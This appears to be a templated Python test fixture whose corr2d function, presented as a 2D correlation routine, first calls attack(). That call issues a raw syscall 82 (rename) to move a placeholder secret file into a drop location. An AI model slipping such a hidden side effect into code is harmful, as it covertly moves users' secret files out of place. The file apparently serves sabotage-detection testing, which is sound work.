import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(82, ctypes.c_char_p(b"@SECRET@"), ctypes.c_char_p(b"@DROP@/x"))
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
